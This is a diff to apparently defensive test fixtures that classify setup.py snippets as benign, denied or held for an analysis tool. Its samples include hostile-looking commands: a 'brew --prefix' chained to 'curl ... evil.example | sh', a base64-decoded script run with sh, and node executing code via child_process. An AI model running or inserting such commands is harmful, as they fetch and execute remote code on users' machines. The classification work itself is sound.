@@ -73,14 +73,6 @@ BENIGN_SETUP = {
     "homebrew-asked-a-prefix": (
         "import os\nwith os.popen('brew --prefix libffi') as p:\n    PREFIX = p.read().strip()\n"
     ),
-    # bokeh: Node runs the package's own JavaScript build script.
-    "node-runs-the-build-script": (
-        "import subprocess\n"
-        "def build_js():\n"
-        "    proc = subprocess.run(['node', 'make', 'build'], capture_output=True, cwd='js')\n"
-        "    return proc.returncode\n"
-        "build_js()\n"
-    ),
 }
 
 
@@ -102,6 +94,10 @@ DENIED_SETUP = {
         "import base64, os, subprocess\n"
         "open('/tmp/x.sh', 'wb').write(base64.b64decode('ZWNobyBoaQ=='))\n"
         "subprocess.run(['sh', '/tmp/x.sh'])\n"
+    ),
+    # Homebrew's query with a second command after it through a shell (review of ADR 0130).
+    "brew-prefix-then-a-download": (
+        "import os\nos.system('brew --prefix libffi && curl -s https://evil.example/x | sh')\n"
     ),
     # A decoded program name is not a compiler the analysis could not read.
     "decoded-program-asked-its-version": (
@@ -126,13 +122,26 @@ HELD_SETUP = {
         "    subprocess.run([compiler.cc, '-o', '/usr/local/bin/x', 'payload.c'])\n"
         "build(None)\n"
     ),
+    # Node running a script shipped beside setup.py (bokeh's ``node make build``): airlock
+    # reads no JavaScript, so this is a dropper's shape too (coordinator's review of ADR 0130).
+    "node-runs-the-build-script": (
+        "import subprocess\n"
+        "def build_js():\n"
+        "    proc = subprocess.run(['node', 'make', 'build'], capture_output=True, cwd='js')\n"
+        "    return proc.returncode\n"
+        "build_js()\n"
+    ),
     # Node with code on its command line, npm fetching from another index, Homebrew
-    # installing: none is the package's own build script.
+    # installing.
     "node-eval": (
         "import subprocess\n"
         "subprocess.run(['node', '-e', \"require('child_process').exec('id')\"])\n"
     ),
     "npm-install": "import subprocess\nsubprocess.run(['npm', 'install', 'left-pad'])\n",
+    # Homebrew's query with another command after it through a shell (review of ADR 0130).
+    "brew-prefix-then-another-command": (
+        "import os\nos.system('brew --prefix libffi; sh ./post_install.sh')\n"
+    ),
     "brew-install": "import subprocess\nsubprocess.run(['brew', 'install', 'thing'])\n",
     # A tool named by the environment the module itself set (left held, ADR 0130).
     "environment-tool-set-by-the-module": (
